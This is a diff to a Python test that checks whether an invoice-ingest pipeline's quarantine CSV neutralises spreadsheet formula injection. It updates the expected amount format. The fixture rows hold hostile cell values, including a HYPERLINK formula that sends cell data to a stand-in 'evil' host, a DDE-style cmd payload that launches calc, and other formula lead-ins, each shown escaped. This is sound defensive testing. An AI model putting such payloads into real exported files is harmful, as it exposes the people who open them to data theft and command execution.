@@ -101,7 +101,8 @@ def _hostile_invoices(folder: Path) -> dict[str, Path]:
 
 def test_ingest_quarantine_csv_cells_cannot_run_as_formulas_streamed_or_not(tmp_path: Path) -> None:
     """Before: OUT/quarantine/invoices.csv held the refused rows as written, `=HYPERLINK(...)` first
-    in its cell (what users open to see what was refused; `ews score` copies the file into every run)."""
+    in its cell (what users open to see what was refused; `ews score` copies the file into every run).
+    Amounts of rows refused across tables read as the file wrote them ("10", not "10.0"; s29-ux)."""
     import csv
 
     from tests.pipelines.test_ingest_stream import _ingest, _outputs
@@ -113,8 +114,8 @@ def test_ingest_quarantine_csv_cells_cannot_run_as_formulas_streamed_or_not(tmp_
     text = (tmp_path / "mem" / "quarantine" / "invoices.csv").read_text(encoding="utf-8")
     rows = list(csv.DictReader(text.splitlines()))
     assert [(r["invoice_id"], r["debtor_id"], r["amount"]) for r in rows] == [
-        ('\'=HYPERLINK("http://evil/?"&A1,"x")', "NOPE", "10.0"),
-        ("I3", "'＝cmd|' /C calc'!A0", "10.0"),
+        ('\'=HYPERLINK("http://evil/?"&A1,"x")', "NOPE", "10"),
+        ("I3", "'＝cmd|' /C calc'!A0", "10"),
         ("'＠SUM(A1)", "D2", "abc"),
         ("I5", "D2", "'－5+3"),
     ]
